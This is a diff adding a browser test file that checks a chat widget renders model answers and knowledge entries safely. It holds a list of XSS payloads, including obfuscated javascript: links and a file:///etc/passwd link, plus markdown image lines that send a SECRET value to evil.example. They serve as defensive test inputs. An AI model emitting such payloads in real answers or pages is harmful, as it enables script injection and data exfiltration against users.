@@ -1,0 +1,150 @@
+// Hostile and awkward texts in answers: whatever a model or a knowledge entry says, only known elements appear.
+import assert from "node:assert/strict";
+import { after, afterEach, before, test } from "node:test";
+import { launchBrowser, scriptAnswer, startServer, startSite, visit } from "./harness.mjs";
+
+const ALLOWED = ["A", "BDI", "CODE", "EM", "LI", "OL", "P", "PRE", "SPAN", "STRONG", "UL"];
+const RENDER_MS_MAX = 1000;
+
+const HOSTILE = [
+  "<img src=x onerror=alert(1)>",
+  "<svg/onload=alert(1)>",
+  "<script>alert(1)</script>",
+  "<svg><style><img src=x onerror=alert(1)></style></svg>",
+  "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<a href=\"\u0001javascript:alert(1)\">x</a>",
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](java\tscript:alert(1))",
+  "[x](JaVaScRiPt&colon;alert(1))",
+  "[x](\u0001javascript:alert(1))",
+  "[x](data:text/html,<script>alert(1)</script>)",
+  "[x](vbscript:msgbox(1))",
+  "[x](file:///etc/passwd)",
+  "[x](//evil.example/)",
+  "[bank](https://bank.example@evil.example/)",
+  "![pixel](https://evil.example/?d=SECRET)",
+  "![pixel][1]\n\n[1]: https://evil.example/?d=SECRET",
+  "[![pixel](https://evil.example/p)](https://evil.example/)",
+  "```html\n<img src=x onerror=alert(1)>\n```",
+  "[a](https://evil.example/\" onmouseover=\"alert(1))",
+  "\u202Eevil\u202C [\u202Egro.knab](https://evil.example/)",
+];
+
+const HEAVY = ["a".repeat(100_000), "*".repeat(10_000), "[".repeat(10_000), "`".repeat(10_001), "_a".repeat(10_000), "**a ".repeat(5_000), "[x](".repeat(5_000), "- ".repeat(5_000), "https://".repeat(2_000), "\n".repeat(20_000), "> ".repeat(5_000)];
+
+let server, site, browser;
+const visits = [];
+
+before(async () => {
+  server = await startServer();
+  site = await startSite(server);
+  browser = await launchBrowser();
+});
+
+afterEach(async () => {
+  for (const { context } of visits.splice(0)) await context.close();
+});
+
+after(async () => {
+  await browser?.close();
+  await site?.stop();
+  await server?.stop();
+});
+
+async function open(knowledge = []) {
+  const agent = await server.agent({ name: "Ada", greeting: "Hello!" }, knowledge);
+  const visitor = await visit(browser, site.page(agent));
+  visits.push(visitor);
+  await visitor.open();
+  return visitor;
+}
+
+async function answerTo(visitor, text) {
+  await visitor.page.unrouteAll();
+  await scriptAnswer(visitor.page, server, text);
+  const answer = await visitor.ask("?");
+  return answer.locator(".cf-bubble");
+}
+
+const elements = (bubble) =>
+  bubble.evaluate((node) =>
+    [...node.querySelectorAll("*")].map(({ tagName, attributes, href }) => ({
+      tag: tagName,
+      attributes: [...attributes].map(({ name }) => name).sort(),
+      href,
+    })),
+  );
+
+function assertHarmless(found, text, allowed = ALLOWED) {
+  for (const { tag, attributes, href } of found) {
+    assert.ok(allowed.includes(tag), `${tag} from ${text}`);
+    assert.ok(!attributes.some((name) => name.startsWith("on") || name === "style"), `${attributes} from ${text}`);
+    if (href !== undefined) assert.match(href, /^(https?|mailto):/, text);
+  }
+}
+
+test("hostile answers make no element but the allowed, no dialog and no request", async () => {
+  const visitor = await open();
+  for (const text of HOSTILE) assertHarmless(await elements(await answerTo(visitor, text)), text);
+  assert.equal(visitor.seen.dialogs, 0);
+  assert.ok(![...visitor.seen.origins].some((origin) => origin.includes("evil")));
+});
+
+test("hostile knowledge is as harmless as a hostile model", async () => {
+  const visitor = await open([
+    "Q: What is the velvet handbook?\nA: The velvet handbook is <img src=x onerror=alert(1)> [here](javascript:alert(1)).",
+    "Q: What is the copper handbook?\nA: The copper handbook is ![p](https://evil.example/?d=1) <script>alert(1)</script>.",
+  ]);
+  for (const name of ["velvet", "copper"]) {
+    const answer = await visitor.ask(`What is the ${name} handbook?`);
+    assertHarmless(await elements(answer.locator(".cf-bubble")), name);
+    await answer.locator(".cf-source").first().click();
+    assertHarmless(await elements(answer.locator(".cf-excerpt")), name, [...ALLOWED, "DIV"]);
+  }
+  assert.equal(visitor.seen.dialogs, 0);
+  assert.ok(![...visitor.seen.origins].some((origin) => origin.includes("evil")));
+});
+
+test("what the visitor writes stays text", async () => {
+  const visitor = await open();
+  await scriptAnswer(visitor.page, server, "ok");
+  await visitor.ask("**<b>hi</b>** [x](https://a.example)");
+  const own = visitor.log.locator('[data-from="user"] .cf-bubble');
+  assert.equal(await own.textContent(), "**<b>hi</b>** [x](https://a.example)");
+  assert.equal(await own.locator("*").count(), 0);
+});
+
+test("heavy answers are shown without a stall", async () => {
+  const visitor = await open();
+  for (const text of HEAVY) {
+    const startedMs = Date.now();
+    await answerTo(visitor, text);
+    assert.ok(Date.now() - startedMs < RENDER_MS_MAX, `${text.slice(0, 12)}… took ${Date.now() - startedMs} ms`);
+  }
+});
+
+test("the supported part of Markdown is shown as it is meant", async () => {
+  const visitor = await open();
+  const shape = async (text) => (await answerTo(visitor, text)).evaluate((node) => node.innerHTML.replaceAll(/<\/?span>/g, ""));
+  const link = (href, inner) => `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow ugc">${inner}</a>`;
+  const cases = {
+    "one\n\ntwo": "<p>one</p><p>two</p>",
+    "**b** *i* _j_ `c`": "<p><strong>b</strong> <em>i</em> <em>j</em> <code>c</code></p>",
+    "snake_case_name 2 * 3 * 4": "<p>snake_case_name 2 * 3 * 4</p>",
+    "**open": "<p>**open</p>",
+    "- a\n- **b**": "<ul><li>a</li><li><strong>b</strong></li></ul>",
+    "2. a\n3. b": '<ol start="2"><li>a</li><li>b</li></ol>',
+    "Text:\n- a\n\nmore": "<p>Text:</p><ul><li>a</li></ul><p>more</p>",
+    "# Title\ntext": "<p><strong>Title</strong></p><p>text</p>",
+    "```js\na < b\n```": '<pre tabindex="0"><code>a &lt; b</code></pre>',
+    "see https://a.example/x.": `<p>see ${link("https://a.example/x", "<bdi>https://a.example/x</bdi>")}.</p>`,
+    "[docs](https://a.example/x)": `<p>${link("https://a.example/x", '<bdi>docs</bdi><span class="cf-host"> (a.example)')}</p>`,
+    "[a.example](https://b.example/)": `<p>${link("https://b.example/", '<bdi>a.example</bdi><span class="cf-host"> (b.example)')}</p>`,
+    "[write](mailto:a@b.example)": `<p>${link("mailto:a@b.example", '<bdi>write</bdi><span class="cf-host"> (a@b.example)')}</p>`,
+    "![alt](https://a.example/i.png)": "<p>alt</p>",
+    "\\*not bold\\*": "<p>*not bold*</p>",
+  };
+  for (const [text, expected] of Object.entries(cases)) assert.equal(await shape(text), expected, text);
+});
